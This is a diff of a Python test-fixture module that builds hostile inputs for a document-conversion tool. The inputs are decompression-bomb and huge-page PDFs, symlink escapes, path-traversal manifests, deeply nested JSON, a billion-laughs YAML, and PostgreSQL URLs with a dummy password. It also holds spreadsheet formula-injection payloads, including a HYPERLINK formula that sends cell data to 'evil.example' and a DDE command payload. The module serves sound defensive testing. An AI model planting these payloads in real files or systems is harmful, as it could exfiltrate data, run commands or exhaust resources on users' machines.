@@ -1,7 +1,11 @@
 """A corpus of broken and hostile inputs, built by the tests (nothing is downloaded), and what vnplan must say.
 
-`build(folder)` writes every case into `folder/in/` (and a file outside it for the link case) and returns the
-cases: file name -> the error code expected, or None for a file that must convert (with the warnings expected).
+`build(folder)` writes every input case into `folder/in/` (and a file outside it for the link case) and returns
+the cases: path under `in/` -> the error code expected, or None for a file that must convert (with the warnings
+expected). The other builders make what is hostile around the inputs: batch manifests of every bad shape
+(`BAD_MANIFESTS`), links planted in an output folder (`plant_links`), a JSON nested 200,000 deep (`DEEP_JSON`), a
+billion-laughs profile (`LAUGHS`), spreadsheet formulas in a result's cells (`plant_formulas`) and PostgreSQL URLs
+that carry a password (`SECRET_URLS`).
 """
 
 from __future__ import annotations
@@ -11,6 +15,7 @@ import zipfile
 import zlib
 from dataclasses import dataclass, field
 from pathlib import Path
+from typing import Any
 
 import pymupdf
 
@@ -63,13 +68,13 @@ def bomb_pdf(side: int = 20_000) -> bytes:
     return bytes(out)
 
 
-def text_pdf(lines: list[str], path: Path) -> None:
+def text_pdf(lines: list[str], path: Path, size: tuple[float, float] = (595, 842)) -> None:
     doc = pymupdf.open()
-    page = doc.new_page()
+    page = doc.new_page(width=size[0], height=size[1])
     y = 60.0
     for line in lines:
-        if y > 800:
-            page, y = doc.new_page(), 60.0
+        if y > min(800, size[1] - 40):
+            page, y = doc.new_page(width=size[0], height=size[1]), 60.0
         page.insert_text((56, y), line, fontname="helv", fontsize=11)
         y += 16
     doc.save(path)
@@ -214,4 +219,91 @@ def build(folder: Path) -> dict[str, Case]:
     (outside / "x.pdf").write_bytes(layer)
     (src / "escape.pdf").symlink_to(Path("..") / "outside" / "x.pdf")
     cases["escape.pdf"] = Case("outside_input")
+
+    (src / "empty.txt").write_bytes(b"")
+    cases["empty.txt"] = Case("no_text")
+    (src / "inline-bomb.pdf").write_bytes(inline_bomb_pdf())
+    cases["inline-bomb.pdf"] = Case("too_large")
+    # a text-layer page 200 inches square: read as text, but no renderer may draw it at 110 dpi
+    text_pdf(plan_lines[:40], src / "huge-page.pdf", size=(14_400, 14_400))
+    cases["huge-page.pdf"] = Case(None)
+    cases.update(_names(src, PLAN_TXT.read_bytes()))
     return cases
+
+
+LONG_FOLDER = "Kế hoạch phòng chống dịch bệnh và hiến máu tình nguyện năm 2021"  # 84 bytes of UTF-8
+
+
+def _names(src: Path, plan: bytes) -> dict[str, Case]:
+    """Inputs whose names are hostile to the output folder: names of dots, names that clash once joined or without
+    their suffix, the manifest's name, and a path whose joined name is longer than a file system allows."""
+    rels = ["..txt", "...txt", "manifest.txt", "plan.txt", "plan.md", "a/b.txt", "a__b.txt",
+            "/".join([LONG_FOLDER] * 4) + "/Kế hoạch số 33.txt"]  # fmt: skip
+    for rel in rels:
+        (src / rel).parent.mkdir(parents=True, exist_ok=True)
+        (src / rel).write_bytes(plan)
+    return {rel: Case(None) for rel in rels}
+
+
+BAD_MANIFESTS: dict[str, bytes] = {
+    "list": b"[]",
+    "null": b"null",
+    "string": b'"documents"',
+    "not-utf8": b'{"manifest_version": 2, "documents": {"\xff\xfe": 1}}',
+    "deep": b"[" * 200_000,
+    "string-entry": b'{"manifest_version": 2, "documents": {"plan.txt": "done"}}',
+    "null-output": b'{"manifest_version": 2, "documents": {"plan.txt": {"sha256": "0", "pipeline_version": "0", '
+    b'"output": null, "file": "x"}}}',
+    "documents-list": b'{"manifest_version": 2, "documents": []}',
+    # an entry whose output leaves the folder: a batch removes a stale entry's output, so it must never take this
+    "escape": b'{"manifest_version": 2, "documents": {"gone.txt": {"sha256": "0", "pipeline_version": "0", '
+    b'"output": "../victim.json", "file": "x"}}}',
+    "old-version": b'{"documents": {"plan": {"sha256": "0", "pipeline_version": "0", "output": "plan.json"}}}',
+}
+"""Batch manifests of every bad shape: each must only cost a redo."""
+
+
+def plant_links(out: Path, victim: Path) -> dict[str, Path]:
+    """Symbolic links to `victim` at each name a batch writes in its output folder; returns them by name."""
+    out.mkdir(parents=True, exist_ok=True)
+    links = {}
+    for name in (".vnplan.lock", "errors.jsonl", "manifest.json", "review"):
+        links[name] = out / name
+        links[name].symlink_to(victim)
+    return links
+
+
+DEEP_JSON = b"[" * 200_000 + b"]" * 200_000
+"""Valid JSON nested 200,000 deep: deeper than any parser's recursion."""
+
+LAUGHS = "a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
+    f"{n}: &{n} [{', '.join([f'*{p}'] * 9)}]\n" for p, n in zip("abcdefgh", "bcdefghi", strict=True)
+)
+"""A billion-laughs profile: 600 bytes of YAML whose aliases expand to 9^9 strings."""
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
+            "\t=1+1", "\r=1+1", "＝1+1"]  # fmt: skip
+"""Cells a spreadsheet would run as formulas (OWASP's list, and a full-width equals sign)."""
+
+
+def plant_formulas(result: dict[str, Any]) -> None:
+    """Put the formulas in text cells of a result that every CSV shows: the number, a target's subject, metric and
+    unit, a body's name and its first task, a quota row's unit."""
+    result["document"]["number"] = FORMULAS[0]
+    target = result["targets"][0]
+    target["subject"], target["metric"], target["unit"] = FORMULAS[1], FORMULAS[2], FORMULAS[3]
+    body = result["responsible_bodies"][0]
+    body["name"], body["tasks"][0]["text"] = FORMULAS[4], FORMULAS[5]
+    if result["quota_tables"]:
+        result["quota_tables"][0]["rows"][0]["unit"] = FORMULAS[6]
+
+
+SECRET = "hunter2secret"
+SECRET_URLS = [
+    f"postgresql://u@127.0.0.1:9/x?password={SECRET}",
+    f"postgresql://u:{SECRET}@127.0.0.1:9/x",
+    f"postgresql://u:{SECRET}@127.0.0.1:notaport/x",  # malformed: the port is not a number
+    "postgresql://u:hun@ter2/secret@127.0.0.1:9/x",  # malformed: @ and / unescaped in the password
+    f"postgresql://u@127.0.0.1:9/x?sslmode=disable&sslpassword={SECRET}",
+]
+"""PostgreSQL URLs that carry a password: it must never be printed."""
